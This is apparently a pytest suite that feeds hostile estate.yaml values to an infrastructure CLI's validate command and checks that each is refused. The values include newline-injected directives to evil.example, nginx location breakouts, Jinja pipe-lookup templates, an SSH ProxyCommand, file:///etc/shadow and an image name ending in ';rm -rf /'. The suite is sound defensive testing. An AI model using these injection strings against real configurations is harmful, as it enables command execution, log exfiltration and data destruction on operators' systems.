"""Hostile estates: values a pull request could write into ``estate.yaml`` to inject a directive,
run a template, take over an Ansible connection or crash a later command.

Each case edits a copy of a bundled estate, runs the real ``idcpilot validate`` and asserts
exit 2 with the field path named (no traceback, bounded time: ``hostile.run``). ``CASES`` is
also what tests/catalogue/test_schema_agreement.py feeds to the published JSON Schema: a
"shape" case must be refused by the schema too, a "cli-only" case only by the CLI.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable

import pytest

from tests.adversarial.hostile import Hostile, ansible, copy_estate, idcpilot, output

MARKER = "idcpilot-hostile-marker"


def _pipe(tmp: str) -> str:
    """A template that would create a marker file if anything rendered it."""
    return "{{ lookup('pipe', 'touch " + tmp + "/" + MARKER + "') }}"


@dataclass(frozen=True)
class Case:
    id: str
    source: str  # the bundled estate copied: lab or example
    field: str  # the field path the CLI must name
    mutate: Callable[[dict[str, Any], str], Any]  # (estate data, marker directory)
    kind: str = "shape"  # shape: refused by the JSON Schema too; cli-only: needs more than the schema can say
    injects: bool = False  # a template that, if rendered, creates the marker


def _host0(d: dict[str, Any]) -> dict[str, Any]:
    return d["spec"]["sites"][0]["hosts"][0]


def _set(path: tuple[Any, ...], value: Any) -> Callable[[dict[str, Any], str], None]:
    def mutate(d: dict[str, Any], _tmp: str) -> None:
        node = d
        for part in path[:-1]:
            node = node[part]
        node[path[-1]] = value(_tmp) if callable(value) else value

    return mutate


def _vars(values: dict[str, Any] | Callable[[str], dict[str, Any]]) -> Callable[[dict[str, Any], str], None]:
    def mutate(d: dict[str, Any], tmp: str) -> None:
        _host0(d)["vars"] = values(tmp) if callable(values) else values

    return mutate


def _rename_gateway(name: str) -> Callable[[dict[str, Any], str], None]:
    def mutate(d: dict[str, Any], _tmp: str) -> None:
        old = d["spec"]["gateways"][0]["name"]
        d["spec"]["gateways"][0]["name"] = name
        for app in d["spec"]["apps"]:
            if app.get("gateway") == old:
                app["gateway"] = name

    return mutate


def _append_group(pattern: str, count: int = 3) -> Callable[[dict[str, Any], str], None]:
    def mutate(d: dict[str, Any], _tmp: str) -> None:
        d["spec"]["sites"][0]["hosts"].append({"group": "hostile-grp", "count": count, "namePattern": pattern})

    return mutate


CASES: list[Case] = [
    # strings pasted into configs
    Case("apt-mirror-newline-trusted", "lab", "spec.packageMirror.apt",
         _set(("spec", "packageMirror", "apt"), "http://10.213.0.1:3142/debian\nTrusted: yes")),
    Case("ntp-server-newline-directive", "lab", "spec.ntpServers[0]",
         _set(("spec", "ntpServers"), ["10.213.0.1\npool evil.example iburst"])),
    Case("cdn-path-prefix-alias-etc", "lab", "spec.cdn.rules[0].pathPrefix",
         _set(("spec", "cdn", "rules", 0, "pathPrefix"), "/static/ { alias /etc/; } location ^~ /zz/")),
    Case("cdn-path-prefix-dotdot", "lab", "spec.cdn.rules[0].pathPrefix",
         _set(("spec", "cdn", "rules", 0, "pathPrefix"), "/static/../../etc/")),
    Case("app-upstream-closes-location", "lab", "spec.apps[0].upstream",
         _set(("spec", "apps", 0, "upstream"), "http://127.0.0.1:9301/x/; } location /open/ { proxy_pass http://127.0.0.1:9302")),
    Case("app-upstream-nginx-variable", "lab", "spec.apps[0].upstream",
         _set(("spec", "apps", 0, "upstream"), "http://127.0.0.1:9301/$request_uri")),
    Case("registry-with-path-injection", "lab", "spec.registry",
         _set(("spec", "registry"), "registry.lab.idcpilot.internal:5000 --insecure")),
    Case("log-store-host-newline", "lab", "spec.audit.logStore.host",
         _set(("spec", "audit", "logStore", "host"), "10.213.0.1\n*.* @@evil.example")),
    Case("free-text-bidi-override", "lab", "metadata.description",
         _set(("metadata", "description"), "lab \u202eevil\u202c estate")),
    Case("image-with-shell", "lab", "spec.services[0].image",
         _set(("spec", "services", 0, "image"), "registry.lab.idcpilot.internal:5000/lab/web:1.0;rm -rf /")),
    # templates Ansible would run on the operator's machine
    Case("threat-feed-url-template", "lab", "spec.threatIntel[0].url",
         _set(("spec", "threatIntel", 0, "url"), lambda tmp: "http://10.213.0.1:8082/" + _pipe(tmp)), injects=True),
    Case("cdn-origin-url-template", "lab", "spec.cdn.origins[0].url",
         _set(("spec", "cdn", "origins", 0, "url"), lambda tmp: "http://" + _pipe(tmp)), injects=True),
    Case("organisation-template", "lab", "metadata.organisation",
         _set(("metadata", "organisation"), lambda tmp: "lab " + _pipe(tmp)), injects=True),
    Case("host-var-template", "lab", "spec.sites[0].hosts[0].vars.baseline_banner_text",
         _vars(lambda tmp: {"baseline_banner_text": _pipe(tmp)}), injects=True),
    Case("host-var-statement-marker", "lab", "spec.sites[0].hosts[0].vars.baseline_admin_members[0]",
         _vars({"baseline_admin_members": ["{% for x in range(9) %}x{% endfor %}"]})),
    Case("threat-feed-file-scheme", "lab", "spec.threatIntel[0].url",
         _set(("spec", "threatIntel", 0, "url"), "file:///etc/shadow")),
    Case("mirror-url-credentials", "lab", "spec.packageMirror.apt",
         _set(("spec", "packageMirror", "apt"), "http://user:secret@10.213.0.1:3142/debian")),
    # the artifact repository hosts fetch Kubernetes binaries from (https or http only; the gate then
    # refuses http, K8S-ARTIFACTS)
    Case("artifacts-url-newline", "lab", "spec.packageMirror.artifacts",
         _set(("spec", "packageMirror", "artifacts"), "https://10.213.0.1:8083/k8s\nvalidate_certs: false")),
    Case("artifacts-url-template", "lab", "spec.packageMirror.artifacts",
         _set(("spec", "packageMirror", "artifacts"), lambda tmp: "https://10.213.0.1:8083/" + _pipe(tmp)), injects=True),
    Case("artifacts-file-scheme", "lab", "spec.packageMirror.artifacts",
         _set(("spec", "packageMirror", "artifacts"), "file:///srv/evil-bundle")),
    Case("artifacts-ftp-scheme", "lab", "spec.packageMirror.artifacts",
         _set(("spec", "packageMirror", "artifacts"), "ftp://10.213.0.1/k8s")),
    # connection takeover through host vars
    Case("host-var-ssh-proxycommand", "lab", "spec.sites[0].hosts[0].vars.ansible_ssh_common_args",
         _vars(lambda tmp: {"ansible_ssh_common_args": f"-o ProxyCommand='touch {tmp}/{MARKER}'"})),
    Case("host-var-become-exe", "lab", "spec.sites[0].hosts[0].vars.ansible_become_exe",
         _vars({"ansible_become_exe": "/tmp/evil"})),
    Case("host-var-interpreter", "lab", "spec.sites[0].hosts[0].vars.ansible_python_interpreter",
         _vars({"ansible_python_interpreter": "/tmp/evil"})),
    Case("host-var-mitogen-via", "lab", "spec.sites[0].hosts[0].vars.mitogen_via",
         _vars({"mitogen_via": "lab-bj-zt01"})),
    Case("host-var-overrides-inventory-fact", "lab", "spec.sites[0].hosts[0].vars.idcpilot_addresses",
         _vars({"idcpilot_addresses": {"management": "10.0.0.1"}})),
    Case("host-var-null-disables-firewall", "lab", "spec.sites[0].hosts[0].vars.baseline_firewall_enabled",
         _vars({"baseline_firewall_enabled": None})),
    Case("host-var-wrong-type", "lab", "spec.sites[0].hosts[0].vars.baseline_pass_max_days",
         _vars({"baseline_pass_max_days": "9999"})),
    # names Ansible reserves, names that do not fit certificates
    Case("host-named-all", "lab", "spec.sites[0].hosts[0].name", _set(("spec", "sites", 0, "hosts", 0, "name"), "all")),
    Case("host-named-localhost", "lab", "spec.sites[0].hosts[0].name", _set(("spec", "sites", 0, "hosts", 0, "name"), "localhost")),
    Case("host-named-automated", "lab", "spec.sites[0].hosts[0].name", _set(("spec", "sites", 0, "hosts", 0, "name"), "automated")),
    Case("estate-name-45-chars", "lab", "metadata.name", _set(("metadata", "name"), "e" * 45)),
    Case("gateway-name-43-chars", "lab", "spec.gateways[0].name", _rename_gateway("g" * 43)),
    # strict numbers
    Case("replicas-false", "example", "spec.services[0].replicas", _set(("spec", "services", 0, "replicas"), False)),
    Case("replicas-1e30", "example", "spec.services[0].replicas", _set(("spec", "services", 0, "replicas"), 1e30)),
    Case("ttl-true", "lab", "spec.cdn.rules[0].ttlSeconds", _set(("spec", "cdn", "rules", 0, "ttlSeconds"), True)),
    # YAML's .nan has no JSON counterpart, so only the CLI can see it
    Case("pue-nan", "lab", "spec.sites[0].pue.design", _set(("spec", "sites", 0, "pue", "design"), float("nan")), kind="cli-only"),
    # generated names
    Case("name-pattern-format-bomb", "lab", "spec.sites[0].hosts[2].namePattern", _append_group("x-{index:>999999999}")),
    Case("name-pattern-attribute-access", "lab", "spec.sites[0].hosts[2].namePattern", _append_group("x-{index.__class__}")),
    Case("name-pattern-two-indexes", "lab", "spec.sites[0].hosts[2].namePattern", _append_group("x-{index}-{index}")),
    Case("name-pattern-too-long-for-count", "lab", "spec.sites[0].hosts[2].namePattern",
         _append_group("h" * 59 + "-{index:04d}", count=3), kind="cli-only"),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_estate_is_refused(case: Case, tmp_path: Path) -> None:
    hostile = copy_estate(tmp_path, case.source)
    hostile.edit(lambda d: case.mutate(d, str(tmp_path)))
    proc = idcpilot("validate", hostile.root)
    text = output(proc)
    assert proc.returncode == 2, text
    assert f": {case.field}: " in text, text
    assert "NoneType" not in text and "Value error" not in text
    assert not (tmp_path / MARKER).exists()


@pytest.mark.parametrize("case", [c for c in CASES if c.injects], ids=[c.id for c in CASES if c.injects])
def test_plain_ansible_renders_nothing_from_a_hostile_estate(case: Case, tmp_path: Path) -> None:
    hostile: Hostile = copy_estate(tmp_path, case.source)
    hostile.edit(lambda d: case.mutate(d, str(tmp_path)))
    ansible("ansible-inventory", "-i", hostile.root, "--list")
    ansible("ansible", "-i", hostile.root, "all", "-m", "ansible.builtin.debug", "-a", "var=hostvars[inventory_hostname]",
            "--limit", "lab-bj-gw01")
    assert not (tmp_path / MARKER).exists(), "a catalogue value was rendered as a template"


@pytest.mark.parametrize("command", ["check", "report"])
def test_long_names_are_refused_before_certificates_are_made(command: str, tmp_path: Path) -> None:
    hostile = copy_estate(tmp_path, "lab")
    hostile.edit(lambda d: (d["metadata"].update(name="e" * 45), _rename_gateway("g" * 43)(d, "")))
    args = [command, hostile.root] + (["--out", tmp_path / "out"] if command == "report" else [])
    proc = idcpilot(*args)
    text = output(proc)
    assert proc.returncode == 2, text
    assert "metadata.name: must be at most 24 characters (got 45)" in text
    assert "spec.gateways[0].name: must be at most 25 characters (got 43)" in text
